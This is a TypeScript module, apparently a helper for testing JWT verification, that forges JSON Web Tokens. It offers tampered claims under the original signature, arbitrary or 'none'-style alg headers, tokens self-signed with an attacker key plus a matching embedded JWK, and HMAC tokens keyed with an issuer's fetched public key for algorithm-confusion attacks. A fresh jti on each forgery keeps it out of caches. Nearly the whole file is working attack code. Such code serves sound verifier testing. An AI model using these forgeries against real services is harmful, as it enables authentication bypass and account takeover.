/** Tokens that nobody issued. */
import { createHmac, createPublicKey, generateKeyPairSync, randomUUID, sign } from 'node:crypto';

type Part = Record<string, unknown>;

const encode = (part: Part): string => Buffer.from(JSON.stringify(part)).toString('base64url');
const decode = (part: string | undefined): Part =>
  JSON.parse(Buffer.from(part || 'e30', 'base64url').toString('utf8')) as Part;

export const claimsOf = (token: string): Part => decode(token.split('.')[1]);

let keys: ReturnType<typeof generateKeyPairSync> | undefined;
/** A key pair of the attacker's own. */
const attacker = () => {
  keys ??= generateKeyPairSync('rsa', { modulusLength: 2048 });
  return keys;
};

export interface Forger {
  /** Other claims under the old signature. */
  tampered(): string;
  /** `alg` as given, with this signature. */
  unsigned(alg: string, signature?: string): string;
  /** Signed with the attacker's key; the header as changed. */
  selfSigned(header?: Part): string;
  /** HMAC with `secret`. */
  hmac(secret: string): string;
  /** The attacker's public key, for a header that brings its own. */
  readonly jwk: Part;
}

/** Forges a genuine token with other claims in it. Each forgery is one of a kind, so that no cache knows it. */
export function forger(token: string, changes: Part): Forger {
  const [head, , signature = ''] = token.split('.');
  const header = decode(head);
  const payload = () => encode({ ...claimsOf(token), ...changes, jti: randomUUID() });
  return {
    tampered: () => `${head}.${payload()}.${signature}`,
    unsigned: (alg, given = '') => `${encode({ ...header, alg })}.${payload()}.${given}`,
    selfSigned(other = {}) {
      const input = `${encode({ ...header, ...other })}.${payload()}`;
      return `${input}.${sign('sha256', Buffer.from(input), attacker().privateKey).toString('base64url')}`;
    },
    hmac(secret) {
      const input = `${encode({ ...header, alg: 'HS256' })}.${payload()}`;
      return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
    },
    get jwk() {
      return {
        ...(attacker().publicKey.export({ format: 'jwk' }) as Part),
        kid: header['kid'],
        alg: 'RS256',
        use: 'sig',
      };
    },
  };
}

/** The public key that an issuer's tokens verify with, as PEM: what the attack on mixed-up algorithms signs with. */
export async function publicKeyOf(issuer: string, signal: AbortSignal): Promise<string> {
  const answer = await fetch(`${issuer}/.well-known/jwks.json`, { signal });
  const { keys: published } = (await answer.json()) as { keys: object[] };
  const key = createPublicKey({ key: published[0] as never, format: 'jwk' });
  return key.export({ type: 'spki', format: 'pem' }).toString();
}
